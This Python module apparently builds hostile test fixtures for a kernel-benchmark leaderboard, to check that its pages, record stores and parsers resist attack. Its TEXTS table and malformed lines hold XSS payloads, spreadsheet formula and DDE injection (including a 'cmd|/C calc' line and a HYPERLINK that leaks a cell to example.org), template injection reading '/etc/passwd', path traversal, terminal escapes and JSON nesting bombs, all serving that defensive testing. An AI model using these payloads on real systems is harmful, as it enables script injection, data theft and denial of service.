"""Records, lines of stores, sources and tables that someone wrote in order to run, to break or to mislead the board.

`TEXTS` are possible values of a name, `worded` puts one of them wherever a record holds words, `SHAPES` change a record
to one that is still a record and that cannot be scored, and `LINES` are no records at all. Code that runs sets `pwned`.
"""

from __future__ import annotations

import base64
import copy
import json
from collections.abc import Callable, Iterator, Mapping
from functools import cache
from pathlib import Path
from typing import Any

import synthetic

from robust_kbench import signing, store
from robust_kbench.schema.record import MAX_RECORD_BYTES, RunRecord

TEXTS: Mapping[str, str] = {
    "script": "</script><script>window.pwned=1</script>",
    "comment": "--><!--<script>window.pwned=1</script>",
    "attribute": '" autofocus onfocus="window.pwned=1" x=\'` onmouseover=window.pwned=1 y=\'',
    "image": '<img src=x onerror="window.pwned=1">',
    "svg": "<svg/onload=window.pwned=1><foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'>",
    "address": "javascript:window.pwned=1//",
    "link": '<a href="javascript:window.pwned=1">here</a><base href="http://example.org/">',
    "title": "</title></textarea></noscript></option></select></table></svg><script>window.pwned=1</script>",
    "style": "</style><style>*{display:none}</style>red;background:url(http://example.org/x)",
    "entities": "&lt;script&gt;window.pwned=1&lt;/script&gt;&#60;img src=x onerror=window.pwned=1&#62;",
    "template": "{{ ''.__class__ }}{% include '/etc/passwd' %}${window.pwned=1}#{1}",
    "literal": '"}];window.pwned=1;[{"\\u003cscript\\u003e\u2028window.pwned=1\u2029</script>\\',
    "chart": "<b>x</b><a href='javascript:window.pwned=1'>y</a><br>%{customdata}<extra>$\\href{javascript:pwned=1}{z}$",
    "markdown": "x | 1 | [best](javascript:window.pwned=1) `y` ![z](http://example.org/z.png)\n# Winner\n<script>",
    "formula": '=HYPERLINK("http://example.org?"&A1,"x")',
    "command": "@SUM(1+9)*cmd|' /C calc'!A0",
    "sum": "+1+1",
    "difference": ";-1-1\t=1",
    "terminal": "\x1b[2J\x1b]0;mine\x07\x9b1A\r\n\t\x7f\x00",
    "direction": "\u202egnp.exe\u2066\u200b\ufeff\u2060\u00ad",
    "stacked": "e" + "\u0301\u0336" * 60,
    "path": "../../../../../../tmp/pwned/..",
    "prototype": "__proto__",
    "method": "constructor",
    "long": "W" * 3000,
    "nothing": "",
    "space": " \u3000 ",
}
"""Hostile texts, by the way in which each of them attacks."""
_CLOSED = {
    "schema_version", "task_version", "precision", "dtype", "dtypes", "layout", "distribution", "role", "status",
    "probe", "device", "execution", "tier", "severity", "handshake", "clock", "stop", "digest", "signature",
}  # fmt: skip
"""Keys whose values are not words, or words of ours."""
_KEYED = {"axes", "covered", "evidence", "environment", "first_call_us", "hot_us", "samples"}
"""Keys whose values have keys that a record words."""
_NEEDED = {"candidate", "eager", "device", "kbench"}
_MOST, _MOST_OF_KEYS = 400, 90
"""Most characters of a text, in words and in keys, where a record holds many of them."""
_RANK = {"isolation", "started_at", "seed"}
Change = Callable[[dict[str, Any]], None]


def plain(*, status: str = "passed") -> dict[str, Any]:
    """Return a small record of one task, like thousands of others, with cases and findings, without a digest."""
    record: dict[str, Any] = json.loads(_first(status))
    del record["digest"]
    record |= {"cases": record["cases"][:9], "timings": record.get("timings", [])[::3]}
    for timing in record["timings"]:
        timing["sessions"] = timing["sessions"][:4]
    return record


@cache
def _first(status: str) -> bytes:
    for line in synthetic.lines(400, tasks=["norm/rmsnorm"]):
        record = json.loads(line)
        if (record["status"], record["tier"]) == (status, "full"):
            return line
    raise AssertionError(f"none of 400 records is {status}")


def sealed(record: Mapping[str, Any]) -> bytes:
    """Return a record as a line with the right digest. It is our own error if the format refuses the record."""
    return store.to_line(signing.seal(RunRecord.model_validate_json(synthetic.canonical(record))))


def worded(record: Mapping[str, Any], text: str, *, keeping: frozenset[str] = frozenset()) -> dict[str, Any]:
    """Return `record` with `text` wherever it holds words, in keys as well. `keeping`: fields that stay."""
    data = copy.deepcopy(dict(record))
    data["findings"] = [{"guard": "x", "severity": "warn", "message": "x", "case": "x", "evidence": {"x": "x"}}]
    data |= {"labels": ["x", "y"], "log": "x", "reason": "x"}
    data["search"] |= {"minimal": {**data["cases"][0], "status": "incorrect", "reason": "x"}}
    for case in data["cases"]:
        case["reason"] = "x"
    return {name: value if name in keeping else _worded(name, value, text) for name, value in data.items()}


def _worded(name: str, value: Any, text: str) -> Any:
    if name in _CLOSED:
        return value
    if isinstance(value, str):
        return text
    if isinstance(value, list):
        return [_worded(name, each, text[:_MOST]) for each in value]
    if not isinstance(value, dict):
        return value
    if name not in _KEYED:
        return {key: _worded(key, each, text[:_MOST]) for key, each in value.items()}
    renamed = {key if key in _NEEDED else text[:_MOST_OF_KEYS] + key: each for key, each in value.items()}
    return (
        renamed if name == "samples" else {key: _worded("words", each, text[:_MOST]) for key, each in renamed.items()}
    )


def worded_lines(text: str) -> Iterator[bytes]:
    """Yield a failure, a record that is all `text`, and two ranked runs in which all that can be is `text`."""
    yield sealed(worded(plain(status="rejected"), text))
    yield sealed(worded(plain(), text))
    ranked = worded(plain(), text, keeping=frozenset({"task", *_RANK}))
    ranked |= {"submission_digest": f"{text}ranked", "findings": []}
    yield sealed(ranked)
    yield sealed({**ranked, "started_at": "2026-03-03T03:03:03Z", "seed": 3})


def _each_session(change: Callable[[dict[str, Any]], None]) -> Change:
    def changed(record: dict[str, Any]) -> None:
        for timing in record["timings"]:
            for session in timing["sessions"]:
                change(session)

    return changed


def _samples(change: Callable[[dict[str, str]], Mapping[str, str]]) -> Change:
    return _each_session(lambda session: session.update(samples=dict(change(session["samples"]))))


def _fields(**values: Any) -> Change:
    return lambda record: record.update(values)


def _cases(**values: Any) -> Change:
    return lambda record: record.update(cases=[{**case, **values} for case in record["cases"]])


def _floors(value: float) -> Change:
    return lambda record: record.update(timings=[{**timing, "floor_us": value} for timing in record["timings"]])


def _of(numbers: bytes) -> str:
    return base64.b64encode(numbers).decode()


SHAPES: Mapping[str, Change] = {
    "no sessions": lambda record: record["timings"][0].update(sessions=[]),
    "no samples": _samples(lambda _: {}),
    "no eager": _samples(lambda old: {name: text for name, text in old.items() if name not in ("eager", "control")}),
    "no candidate": _samples(lambda old: {name: text for name, text in old.items() if name != "candidate"}),
    "candidate alone": _samples(lambda old: {"candidate": old["candidate"]}),
    "samples of nothing": _samples(lambda old: dict.fromkeys(old, "")),
    "candidate of nothing": _samples(lambda old: {**old, "candidate": ""}),
    "unequal rounds": _samples(lambda old: {**old, "candidate": old["candidate"][:16]}),
    "no base64": _samples(lambda old: {**old, "eager": "!!!!"}),
    "three bytes": _samples(lambda old: {**old, "candidate": _of(b"abc")}),
    "times of zero": _samples(lambda old: dict.fromkeys(old, _of(bytes(80)))),
    "the longest times": _samples(lambda old: dict.fromkeys(old, _of(b"\xff" * 80))),
    "a contestant in one session": lambda record: record["timings"][0]["sessions"][0]["samples"].pop("compile"),
    "fifty more contestants": _samples(lambda old: old | {f"b{number}": old["eager"] for number in range(50)}),
    "limits of zero": _cases(errors=[1.0], limits=[0.0]),
    "more errors than limits": _cases(errors=[1.0, 2.0], limits=[1.0]),
    "no error of none": _cases(errors=[], limits=[]),
    "huge errors": _cases(errors=[1.7e308], limits=[5e-324]),
    "negative errors": _cases(errors=[-1.0], limits=[1.0]),
    "floors of zero": _floors(0.0),
    "negative floors": _floors(-1.0),
    "huge floors": _floors(1.7e308),
    "no time on a warm cache": _each_session(lambda session: session.update(hot_us={"candidate": 0.0})),
    "negative load": _each_session(lambda session: session.update(foreign_load=-1e308)),
    "huge seed": _fields(seed=10**300),
    "negative version": _fields(task_version=-(10**40)),
    "huge axis": lambda record: record["timings"][0].update(axes={"rows": 10**100}),
    "no axes": lambda record: record["timings"][0].update(axes={}),
    "no dtypes": _fields(dtypes=[]),
    "a dtype twice": lambda record: record.update(dtypes=[record["dtypes"][0]] * 2),
    "times of an undeclared dtype": _fields(dtypes=["float64"]),
    "no environment": _fields(environment={}),
    "no cases": _fields(cases=[]),
    "no time": _fields(started_at="yesterday"),
    "the last time": _fields(started_at="9999-12-31T23:59:59Z"),
    "no digest of sources": _fields(submission_digest=""),
}
"""Changes of a record after which it is still a record by the letter of the format."""


def shaped(name: str) -> dict[str, Any]:
    """Return a record of that shape, whose submission has the shape's name."""
    record = plain() | {"submission": name, "submission_digest": f"sha256:{name}"}
    SHAPES[name](record)
    return record


def _broken() -> dict[str, bytes]:
    record = plain()
    text = synthetic.canonical(record)
    half = text.encode()[: len(text) // 2]

    def with_value(key: str, value: str) -> bytes:
        return f'{{"{key}":{value},{synthetic.canonical({k: v for k, v in record.items() if k != key})[1:]}'.encode()

    return {
        "half a record": half,
        "two halves": half + half,
        "nothing": b"null",
        "a list": b"[]",
        "an empty record": b"{}",
        "a number": b"1" * 40,
        "a text": b'"record"',
        "no JSON": b"<script>window.pwned=1</script>",
        "steering": b"\x1b[2J\x1b]0;mine\x07 \xe2\x80\xae",
        "no UTF-8": text.encode().replace(b"rmsnorm", b"\xff\xfe\xc0\x80"),
        "half a character": with_value("author", '"\\ud800"'),
        "zeros": bytes(1000),
        "deep lists": b"[" * 100_000,
        "deep lists that end": b"[" * 50_000 + b"]" * 50_000,
        "deep records": b'{"a":' * 40_000,
        "deep in a field": with_value("labels", "[" * 20_000 + "]" * 20_000),
        "a key twice": with_value("author", '"one","author":"two"'),
        "no number": with_value("seed", "NaN"),
        "an infinite floor": text.replace('"floor_us":', '"floor_us":Infinity,"x":', 1).encode(),
        "a number too large": text.replace('"floor_us":', '"floor_us":1e999,"x":', 1).encode(),
        "ten thousand digits": with_value("seed", "9" * 10_000),
        "a newer version": with_value("schema_version", "99"),
        "an older version": with_value("schema_version", "0"),
        "a version in words": with_value("schema_version", '"1"'),
        "an unknown key": with_value("<script>window.pwned=1</script>", "1"),
        "a missing key": synthetic.canonical({k: v for k, v in record.items() if k != "task"}).encode(),
        "a wrong type": with_value("cases", '{"0":1}'),
        "an unknown status": with_value("status", '"<img src=x onerror=window.pwned=1>"'),
        "too long": with_value("log", f'"{"x" * 3000}"') + b" " * MAX_RECORD_BYTES,
    }


LINES: Mapping[str, bytes] = _broken()
"""Lines that are no records, each without its newline."""


def altered_lines() -> Iterator[bytes]:
    """Yield records whose digest, or whose signature, is not theirs."""
    line = sealed(plain() | {"submission": "altered", "submission_digest": "sha256:altered"})
    yield line.replace(b'"author":"', b'"author":"not ', 1)
    record = json.loads(sealed(plain() | {"submission": "forged", "submission_digest": "sha256:forged"}))
    record["signature"] = {"key": "00" * 32, "value": "00" * 64}
    yield synthetic.canonical(record).encode() + b"\n"
    unsealed = plain() | {"submission": "strange", "submission_digest": "sha256:strange"}
    yield synthetic.canonical({**unsealed, "digest": "</script><script>window.pwned=1</script>"}).encode() + b"\n"


def confirmation_lines() -> Iterator[bytes]:
    """Yield confirmations of existing records by unknown parties in hostile words, and lines that are none."""
    for text in TEXTS.values():
        *_, published = worded_lines(text)
        told: dict[str, Any] = {
            "record": json.loads(published)["digest"],
            "verdict_confirmed": True,
            "speed_confirmed": None,
        }
        told |= dict.fromkeys(("original_status", "again_status", "reason", "kbench", "device", "at"), text[:900])
        yield synthetic.canonical(told).encode() + b"\n"
        yield synthetic.canonical({**told, "by": text, "signature": text}).encode() + b"\n"
    yield from (LINES[name] + b"\n" for name in ("nothing", "deep lists", "no UTF-8", "half a record"))


def write_stores(folder: Path) -> list[Path]:
    """Write all of these into stores, some with hostile names, and confirmations beside them; return the stores."""
    folder.mkdir(parents=True, exist_ok=True)
    stores = {
        "words.jsonl": b"".join(line for text in TEXTS.values() for line in worded_lines(text)),
        "shapes.jsonl": b"".join(sealed(shaped(name)) for name in SHAPES),
        "<img src=x onerror=pwned=1> & =1.jsonl": b"".join(line + b"\n" for line in LINES.values()),
        "altered\x1b[2J.jsonl": b"".join(altered_lines()),
        "torn.jsonl": sealed(plain() | {"submission": "whole", "submission_digest": "sha256:whole"})
        + LINES["half a record"],
        "empty.jsonl": b"",
    }
    (folder / "confirmations.jsonl").write_bytes(b"".join(confirmation_lines()))
    for name, content in stores.items():
        (folder / name).write_bytes(content)
    return [folder / name for name in stores]


def write_submission(folder: Path) -> None:
    """Write a submission whose source is full of content that a page must not run."""
    folder.mkdir(parents=True)
    source = "\n".join(f"# {text}" for text in (TEXTS[name] for name in ("script", "comment", "image", "entities")))
    source += f'\n"""{TEXTS["title"]}{TEXTS["style"]}\u202e\x1b[2J"""\n'
    (folder / "kernel.py").write_text(
        f"{source}\ndef rmsnorm(x, weight):\n    return x < weight > x & '</code></pre>'\n"
    )
    (folder / "submission.yaml").write_text(
        "task: norm/rmsnorm\nlanguage: python\nabi: value\nentry_point: kernel.py::rmsnorm\n"
        "author: '<script>window.pwned=1</script>'\ndtypes: [float32]\n"
    )
